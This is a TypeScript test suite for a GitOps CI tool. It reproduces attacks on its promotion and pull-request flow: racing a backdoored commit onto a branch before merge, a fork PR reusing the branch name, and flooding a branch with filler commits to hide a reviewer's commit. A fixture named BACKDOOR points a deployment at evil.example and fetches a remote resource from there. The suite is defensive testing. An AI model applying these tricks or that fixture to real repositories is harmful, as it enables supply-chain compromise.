import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { promote, promotionBranch } from "../../src/commands/promote.js";
import { proposalBranch, setImageRemote } from "../../src/commands/set-image-remote.js";
import type { ForgeKind } from "../../src/forge/forge.js";
import { parseImageSpecs } from "../../src/kustomize/image-ref.js";
import { ForeignCommitsError } from "../../src/proposal/ownership.js";
import { openFrom, QUICK_RETRY, REPO, testForge, TOKEN } from "../helpers/forge.js";

// Issue 13: each attack that worked against the local forge, as a second user or a fork would
// mount it. Every test failed before the fix.
const MALLORY = { name: "Mallory", email: "mallory@evil.example" };
const apps = ["race", "fork", "collide", "atomic", "retry", "auto"];
const staging = (app: string) => `apps/${app}/overlays/staging`;
const production = (app: string) => `apps/${app}/overlays/production`;
const FILES: Record<string, string> = {
  ...Object.fromEntries(
    apps.flatMap((app) => [
      [`apps/${app}/base/kustomization.yaml`, "resources:\n- deployment.yaml\n"],
      [`${staging(app)}/kustomization.yaml`, 'resources:\n- ../../base\nimages:\n- name: web\n  newTag: "1.4.1"\n'],
      [`${production(app)}/kustomization.yaml`, 'resources:\n- ../../base\nimages:\n- name: web\n  newTag: "1.4.0"\n'],
    ]),
  ),
  "apps/collide/overlays/prod/eu/kustomization.yaml": 'images:\n- name: web\n  newTag: "1.0.0"\n',
  "apps/collide/overlays/prod-eu/kustomization.yaml": 'images:\n- name: web\n  newTag: "1.0.0"\n',
  "apps/team/staging/kustomization.yaml":
    'images:\n- name: registry.example.com/team/web\n  newTag: "1"\n- name: registry.example.com/team-web\n  newTag: "1"\n',
  "apps/review/staging/kustomization.yaml": 'images:\n- name: web\n  newTag: "1"\n',
  "apps/buried/staging/kustomization.yaml": 'images:\n- name: web\n  newTag: "1"\n',
};
const BACKDOOR =
  'images:\n- name: web\n  newName: evil.example/backdoor\n  newTag: "6.6.6"\nresources:\n- https://evil.example/x\n';

for (const kind of ["github", "gitlab"] as ForgeKind[]) {
  describe(`${kind}: writes cannot be hijacked`, async () => {
    const f = await testForge({ files: FILES });
    const forge = f.client(kind, { retry: QUICK_RETRY });
    const control = (path: string, body: unknown) =>
      fetch(`${f.running.url}/_forge/${path}`, { method: "POST", body: JSON.stringify(body) }).then(async (r) => {
        if (!r.ok) throw new Error(`${path}: ${r.status} ${await r.text()}`);
        return (await r.json()) as { sha: string; number?: number; iid?: number };
      });
    const pushAs = (branch: string, files: Record<string, string>, message = "tweak") =>
      control("push", { repo: REPO[kind], branch, author: MALLORY, message, files });
    const main = () => f.git(kind, "rev-parse", "main");

    it("promote --merge now never merges a head someone pushed while it waited, even a green one", async () => {
      const branch = promotionBranch(production("race"));
      const before = main();
      let pushed = "";
      const attacker = (async () => {
        for (let i = 0; i < 400 && !pushed; i++) {
          await new Promise((r) => setTimeout(r, 20));
          const open = await openFrom(forge, branch).catch(() => undefined);
          if (!open) continue;
          pushed = (await pushAs(branch, { [`${production("race")}/kustomization.yaml`]: BACKDOOR }, "add backdoor"))
            .sha;
          await forge.setCommitStatus(pushed, { name: "gitops-ci/validate", state: "success" });
        }
      })();
      await assert.rejects(
        promote({
          forge,
          branch: "main",
          from: staging("race"),
          to: [production("race")],
          merge: "now",
          autoMergeLevel: "patch",
          pollMs: 20,
          timeoutMs: 20_000,
        }),
        (e: unknown) =>
          e instanceof ForeignCommitsError &&
          /changed while gitops-ci waited to merge it: its head is now [0-9a-f]{12} by Mallory <mallory@evil\.example> \("add backdoor"\)/.test(
            e.message,
          ) &&
          /Nothing was merged/.test(e.message),
      );
      await attacker;
      assert.ok(pushed, "the attacker pushed");
      assert.equal(main(), before, "nothing was merged");
      assert.doesNotMatch(f.git(kind, "show", `main:${production("race")}/kustomization.yaml`), /backdoor/);
      assert.equal(f.git(kind, "rev-parse", branch), pushed, "the pushed commit is kept for review");
    });

    it("a fork's PR/MR with the promotion branch's name is never updated or merged", async () => {
      const branch = promotionBranch(production("fork"));
      const fork = await control("fork-change-request", {
        kind,
        repo: REPO[kind],
        fork: "mallory/config",
        branch,
        base: "main",
        title: "totally legit",
        body: "<!-- gitops-ci/promote head=0000000 -->",
        author: MALLORY,
        files: { [`${production("fork")}/kustomization.yaml`]: BACKDOOR },
      });
      const forkNumber = (fork.number ?? fork.iid) as number;
      const before = main();
      const result = await promote({
        forge,
        branch: "main",
        from: staging("fork"),
        to: [production("fork")],
        merge: "now",
        requiredChecks: [],
        pollMs: 20,
        timeoutMs: 10_000,
      });
      const target = result.targets[0];
      assert.notEqual(target?.prNumber, forkNumber, "our own PR/MR, not the fork's");
      const forked = await forge.getChangeRequest(forkNumber);
      assert.equal(forked.state, "open");
      assert.equal(forked.title, "totally legit");
      assert.doesNotMatch(f.git(kind, "show", `main:${production("fork")}/kustomization.yaml`), /backdoor/);
      assert.match(f.git(kind, "show", `main:${production("fork")}/kustomization.yaml`), /newTag: "1\.4\.1"/);
      assert.notEqual(main(), before);
    });

    it("set-image --mode pull-request refuses to wipe a reviewer's commit, naming it", async () => {
      const paths = ["apps/review/staging"];
      const branch = proposalBranch("main", parseImageSpecs(["web:2"]), paths);
      await setImageRemote({ forge, branch: "main", paths, images: ["web:2"], mode: "pull-request" });
      const reviewer = await pushAs(
        branch,
        { "apps/review/staging/NOTES.md": "check the limits first\n" },
        "reviewer note",
      );
      await assert.rejects(
        setImageRemote({ forge, branch: "main", paths, images: ["web:3"], mode: "pull-request" }),
        (e: unknown) =>
          e instanceof ForeignCommitsError &&
          new RegExp(`${reviewer.sha.slice(0, 12)} by Mallory <mallory@evil\\.example> \\("reviewer note"\\)`).test(
            e.message,
          ),
      );
      assert.equal(f.git(kind, "rev-parse", branch), reviewer.sha, "the reviewer's commit is still the head");
    });

    if (kind === "github")
      it("refuses a branch whose commits GitHub lists only in part: a reviewer's commit past the first page stays", async () => {
        const paths = ["apps/buried/staging"];
        const branch = proposalBranch("main", parseImageSpecs(["web:2"]), paths);
        await setImageRemote({ forge, branch: "main", paths, images: ["web:2"], mode: "pull-request" });
        // 100 commits that claim to be ours push the reviewer's off the one page compare lists.
        for (let i = 0; i < 100; i++)
          await pushAs(branch, { "apps/buried/staging/n.txt": `${i}\n` }, `filler ${i}\n\nGitops-ci-branch: ${branch}`);
        const reviewer = await pushAs(branch, { "apps/buried/staging/NOTES.md": "hold\n" }, "reviewer note");
        await assert.rejects(
          setImageRemote({ forge, branch: "main", paths, images: ["web:3"], mode: "pull-request" }),
          (e: unknown) =>
            e instanceof ForeignCommitsError &&
            /carries more than gitops-ci can check \(GitHub listed 100 of its 102 commits\)/.test(e.message),
        );
        assert.equal(f.git(kind, "rev-parse", branch), reviewer.sha, "the reviewer's commit is still the head");
      });

    it("gives team/web and team-web, and prod/eu and prod-eu, branches of their own", async () => {
      const paths = ["apps/team/staging"];
      const a = await setImageRemote({
        forge,
        branch: "main",
        paths,
        images: ["registry.example.com/team/web:2"],
        mode: "pull-request",
      });
      const b = await setImageRemote({
        forge,
        branch: "main",
        paths,
        images: ["registry.example.com/team-web:3"],
        mode: "pull-request",
      });
      assert.notEqual(a.branch, b.branch);
      assert.notEqual(a.prNumber, b.prNumber);
      assert.match(
        f.git(kind, "show", `${a.branch}:apps/team/staging/kustomization.yaml`),
        /team\/web\n {2}newTag: "2"/,
      );
      assert.match(
        f.git(kind, "show", `${b.branch}:apps/team/staging/kustomization.yaml`),
        /team-web\n {2}newTag: "3"/,
      );
      assert.equal(
        (await forge.getChangeRequest(a.prNumber as number)).title,
        "set-image: registry.example.com/team/web:2",
      );

      const result = await promote({
        forge,
        branch: "main",
        from: staging("collide"),
        to: ["apps/collide/overlays/prod/eu", "apps/collide/overlays/prod-eu"],
      });
      const [eu, dashEu] = result.targets;
      assert.notEqual(eu?.branch, dashEu?.branch);
      assert.notEqual(eu?.prNumber, dashEu?.prNumber);
      for (const t of result.targets)
        assert.match(f.git(kind, "show", `${t.branch}:${t.to}/kustomization.yaml`), /newTag: "1\.4\.1"/);
    });

    it("a failure while replacing the PR/MR branch leaves it where it was", async () => {
      const branch = promotionBranch(production("atomic"));
      const first = await promote({ forge, branch: "main", from: staging("atomic"), to: [production("atomic")] });
      const before = f.git(kind, "rev-parse", branch);
      const stagingFile = `${staging("atomic")}/kustomization.yaml`;
      const staged = await forge.readFiles("main", [stagingFile]);
      await forge.commitFiles({
        branch: "main",
        message: "staging 1.4.2",
        changes: [{ path: stagingFile, content: (staged.files.get(stagingFile) as string).replace("1.4.1", "1.4.2") }],
        expectedHead: staged.head,
      });
      // GitHub: the commit object is written, the ref move fails. GitLab: the one commit request fails.
      const endpoint =
        kind === "github"
          ? "POST /github/api/v3/repos/:owner/:repo/git/commits"
          : "POST /gitlab/api/v4/projects/:id/repository/commits";
      f.running.faults.set([{ endpoint, status: 502 }]);
      try {
        await assert.rejects(
          promote({ forge, branch: "main", from: staging("atomic"), to: [production("atomic")] }),
          /502/,
        );
      } finally {
        f.running.faults.clear();
      }
      assert.equal(f.git(kind, "rev-parse", branch), before, "the branch did not move");
      assert.match(f.git(kind, "show", `${branch}:${production("atomic")}/kustomization.yaml`), /newTag: "1\.4\.1"/);
      const pr = await forge.getChangeRequest(first.targets[0]?.prNumber as number);
      assert.equal(pr.headSha, before);
    });

    it("a 502 after the host made the PR/MR or the comment creates no second one", async () => {
      const created =
        kind === "github"
          ? "POST /github/api/v3/repos/:owner/:repo/pulls"
          : "POST /gitlab/api/v4/projects/:id/merge_requests";
      f.running.faults.set([{ endpoint: created, status: 502, afterHandling: true, times: 1 }]);
      let result;
      try {
        result = await promote({ forge, branch: "main", from: staging("retry"), to: [production("retry")] });
      } finally {
        f.running.faults.clear();
      }
      const branch = promotionBranch(production("retry"));
      const all = await forge.changeRequestsFrom(branch, "main");
      assert.equal(all.length, 1, "one PR/MR, not two");
      assert.equal(all[0]?.number, result.targets[0]?.prNumber);

      const number = all[0]?.number as number;
      const comments =
        kind === "github"
          ? "POST /github/api/v3/repos/:owner/:repo/issues/:number/comments"
          : "POST /gitlab/api/v4/projects/:id/merge_requests/:iid/notes";
      f.running.faults.set([{ endpoint: comments, status: 502, afterHandling: true, times: 1 }]);
      try {
        await forge.comment(number, "one comment");
      } finally {
        f.running.faults.clear();
      }
      const listed = await fetch(
        `${f.apiUrl(kind)}${kind === "github" ? `/repos/${REPO.github}/issues/${number}/comments` : `/projects/${encodeURIComponent(REPO.gitlab)}/merge_requests/${number}/notes`}`,
        {
          headers: kind === "github" ? { authorization: `token ${TOKEN}` } : { "private-token": TOKEN },
        },
      );
      const bodies = ((await listed.json()) as { body: string }[])
        .map((c) => c.body)
        .filter((b) => b.startsWith("one comment"));
      assert.equal(bodies.length, 1);
    });
  });
}
